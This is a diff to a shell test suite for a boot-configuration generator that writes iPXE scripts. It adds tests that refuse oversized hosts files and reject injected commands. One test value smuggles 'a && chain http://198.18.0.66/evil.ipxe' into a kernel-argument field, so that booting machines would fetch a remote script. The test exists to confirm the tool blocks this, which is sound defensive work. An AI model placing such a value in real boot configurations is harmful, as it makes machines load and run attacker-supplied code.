@@ -7,7 +7,7 @@ HERE=$(dirname "$0")
 . "$HERE/tools/bootcfg.sh"
 
 bootcfg_require
-plan 20
+plan 25
 
 R=$T/root
 mkdir -p "$R"
@@ -64,11 +64,24 @@ like "$(cat "$T/err")" "prof:3: profile 'x': 'kernel' and 'sanboot' exclude each
 like "$(cat "$T/err")" "prof:4: profile 'x' already defined on line 1" \
 	"duplicate profile"
 
+# A value that iPXE would run as a command is refused, not written.
+printf '[profile t]\nkernel = /linux\nappend = site=@SITE@\n' >"$T/prof-inj"
+printf '%s\n' '52:54:00:12:34:01 node1 198.18.0.11 t site="a && chain http://198.18.0.66/evil.ipxe #"' >"$T/hosts-inj"
+BC_PROFILES=$T/prof-inj bc_all "$T/r3" "$T/hosts-inj"
+is "$RC" 1 "command separator in an iPXE value: exit 1"
+like "$(cat "$T/err")" "hosts-inj:1: host node1: kernel arguments: '&&' in an iPXE script" \
+	"names the host line and the characters"
+ok "no iPXE script written" test ! -e "$T/r3/ipxe/52-54-00-12-34-01.ipxe"
+ok "no executable && anywhere" sh -c "! grep -rqs -e ' && chain' -e 'site=a &&' '$T/r3'"
+
 run "$BOOTCFG" -p "$BCDATA/profiles" "$BCDATA/hosts"
 is "$RC" 2 "no output chosen: usage error"
 run "$BOOTCFG" -p "$BCDATA/profiles" --dhcpd "$T/x" --dnsmasq "$T/x" "$BCDATA/hosts"
 is "$RC" 2 "one file for two outputs: usage error"
 run "$BOOTCFG" -p "$BCDATA/profiles" -a "$T/nonexistent"
 is "$RC" 1 "unreadable hosts file: exit 1"
+truncate -s 17M "$T/huge"
+run "$BOOTCFG" -p "$BCDATA/profiles" -a -o "$T/r4" "$T/huge"
+like "$(cat "$T/err")" "huge: too large" "a hosts file over 16 MiB: FILE: too large"
 
 done_testing
